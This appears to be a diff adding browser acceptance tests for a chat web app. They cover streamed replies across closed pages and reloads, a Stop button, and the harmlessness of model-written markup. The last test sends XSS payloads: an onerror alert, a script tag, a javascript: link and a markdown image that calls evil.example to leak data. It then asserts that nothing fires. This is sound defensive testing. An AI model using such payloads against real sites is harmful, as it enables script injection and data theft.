@@ -1,0 +1,100 @@
+"""The chat page in a real browser: what a person sees when pages close, open and reload in mid-run."""
+
+import shutil
+from collections.abc import Iterator
+
+import pytest
+from playwright.sync_api import Browser, Page, expect, sync_playwright
+
+from agents.demo.scripts import token
+from tests.acceptance.client import Client
+from tests.acceptance.cluster import Account, Cluster
+from tests.acceptance.test_a_turn import calls, new_key
+
+CHROMIUM = shutil.which("chromium")
+pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no chromium on this machine (.ci/run installs it)")
+
+ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
+
+
+@pytest.fixture(scope="module")
+def account(cluster: Cluster) -> Account:
+    return cluster.account()
+
+
+@pytest.fixture
+def browser() -> Iterator[Browser]:
+    with sync_playwright() as playwright:
+        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=ARGUMENTS)
+        yield browser
+        browser.close()
+
+
+def log_in(browser: Browser, cluster: Cluster, account: Account, path: str = "/") -> Page:
+    """A browser of its own, so to say: cookies and storage are not shared with any other page."""
+    page = browser.new_context().new_page()
+    page.set_default_timeout(20_000)
+    page.goto(f"{cluster.address}{path}")
+    page.fill("#id_username", account.username)
+    page.fill("#id_password", account.password)
+    page.click("button[type=submit]")
+    page.wait_for_selector("textarea")
+    return page
+
+
+def say(page: Page, text: str) -> None:
+    page.fill("textarea", text)
+    page.keyboard.press("Enter")
+
+
+def test_a_page_closed_at_token_twenty_is_continued_in_another_browser(
+    browser: Browser, cluster: Cluster, account: Account
+) -> None:
+    key = new_key()
+    first = log_in(browser, cluster, account)
+    say(first, f"script:text tokens:150 rate:20 key:{key}")
+    expect(first.locator("main")).to_contain_text(token(20, 0).text.strip())
+    first.wait_for_url("**/c/*")
+    path = first.url.removeprefix(cluster.address)
+    first.context.close()
+    # the text is there, and growing
+    other = log_in(browser, cluster, account, path)
+    expect(other.locator("main")).to_contain_text(token(20, 0).text.strip())
+    expect(other.locator("main")).not_to_contain_text(token(149, 0).text.strip())
+    expect(other.locator("main")).to_contain_text(token(149, 0).text.strip())
+    # a third comes after the end: both show what the provider sent, which is what is stored
+    third = log_in(browser, cluster, account, path)
+    with Client(cluster.address, account.token) as client:
+        (_, answer) = client.messages(path.removeprefix("/c/"))
+    (call,) = calls(cluster, key)
+    assert answer["text"] == call["sent_text"]
+    for page in (other, third):
+        expect(page.locator("main")).to_contain_text(" ".join(call["sent_text"].split()), use_inner_text=True)
+
+
+def test_a_reload_in_mid_run_goes_on_and_a_stop_is_shown_as_one(
+    browser: Browser, cluster: Cluster, account: Account
+) -> None:
+    page = log_in(browser, cluster, account)
+    say(page, f"script:text tokens:2000 rate:20 key:{new_key()}")
+    expect(page.locator("main")).to_contain_text(token(10, 0).text.strip())
+    page.reload()
+    expect(page.locator("main")).to_contain_text(token(30, 0).text.strip())
+    page.get_by_role("button", name="Stop").click()
+    expect(page.locator("main")).to_contain_text("Stopped.")
+    # and the chat goes on
+    say(page, f"script:text tokens:3 key:{new_key()}")
+    expect(page.locator("main")).to_contain_text("tokens in")
+
+
+def test_what_a_model_writes_makes_the_page_do_nothing(browser: Browser, cluster: Cluster, account: Account) -> None:
+    page = log_in(browser, cluster, account)
+    asked: list[str] = []
+    page.on("request", lambda request: asked.append(request.url))
+    page.on("dialog", lambda dialog: asked.append("dialog"))
+    say(
+        page, "<img src=x onerror=alert(1)> ![x](https://evil.example/?d=1) <script>alert(2)</script> [c](javascript:a)"
+    )
+    expect(page.locator("main")).to_contain_text("tokens in")
+    assert not [url for url in asked if not url.startswith((cluster.address, "blob:"))]
+    assert page.locator("main img[src*=evil]").count() == 0
